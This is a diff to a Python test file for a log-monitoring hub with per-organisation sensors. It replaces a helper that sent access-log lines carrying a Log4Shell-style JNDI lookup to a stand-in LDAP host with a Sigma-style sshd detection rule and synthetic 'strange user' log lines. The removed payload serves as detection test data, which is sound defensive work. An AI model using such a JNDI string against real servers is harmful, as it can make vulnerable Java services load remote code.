@@ -11,13 +11,19 @@ import signal
 import socket
 import time
 
-from harness import case, contains, equal, main
+from harness import case, contains, equal, folder, main
 from hub_api_kit import Town, Who, cookie_of, problem
-from hub_kit import record, until
+from hub_kit import Member, append, record, until
 
 TOWN = Town()
 SENSORS = {org: TOWN.hub.stranger(org) for org in ("acme", "beta")}
 SENT = {"acme": 0, "beta": 0}
+LOGS = {org: folder() / "auth.log" for org in SENSORS}
+MINUTES = {"acme": 0, "beta": 0}
+MEMBERS = []
+for org_, log in LOGS.items():
+    log.touch()
+    MEMBERS.append(Member(TOWN.hub, org_, follow=[log]).start())
 
 
 def pid_of(role):
@@ -30,15 +36,23 @@ def send(org, text=None):
     equal(one.send(one.batch(record(SENT[org], text), SENT[org]))[0], 200)
 
 
+RULE = """title: Strange user
+id: 5a5a5a5a-0000-4000-8000-000000000001
+logsource: {product: linux, service: sshd}
+detection:
+  sel: {message|contains: 'strange user'}
+  condition: sel
+level: high
+"""
+(TOWN.hub.data / "rules").mkdir(exist_ok=True)
+(TOWN.hub.data / "rules" / "strange.yml").write_text(RULE, encoding="utf-8")
+until("the rule", lambda: "were taken over" in TOWN.hub.messages())
+
+
 def attack(org):
-    """A line that the hub's own pack finds."""
-    SENT[org] += 1
-    number = SENT[org]
-    line = json.dumps({"v": 1, "format": "access", "position": number, "fields": {}, "raw":
-                       '192.0.2.%d - - [21/Nov/2026:08:%02d:00 +0000] "GET /?x=${jndi:ldap://x.example/%d} HTTP/1.1" 200 5 '
-                       '"-" "-"' % (number % 200, number % 60, number)}).encode() + b"\n"
-    one = SENSORS[org]
-    equal(one.send(one.batch(line, number))[0], 200)
+    """A line that is found, in a minute of its own."""
+    MINUTES[org] += 1
+    append(LOGS[org], ["Nov 21 08:%02d:00 box sshd[7]: strange user %d" % (MINUTES[org], MINUTES[org])])
 
 
 def found(who):
@@ -275,6 +289,8 @@ def links_for_the_data_folder():
 @case
 def ends_in_time_with_open_streams():
     streams = [Stream(TOWN.member) for _ in range(5)]
+    for member in MEMBERS:
+        equal(member.stop(), 0)
     begun = time.monotonic()
     equal(TOWN.end(), 0, TOWN.hub.messages()[-2000:])
     assert time.monotonic() - begun < 10
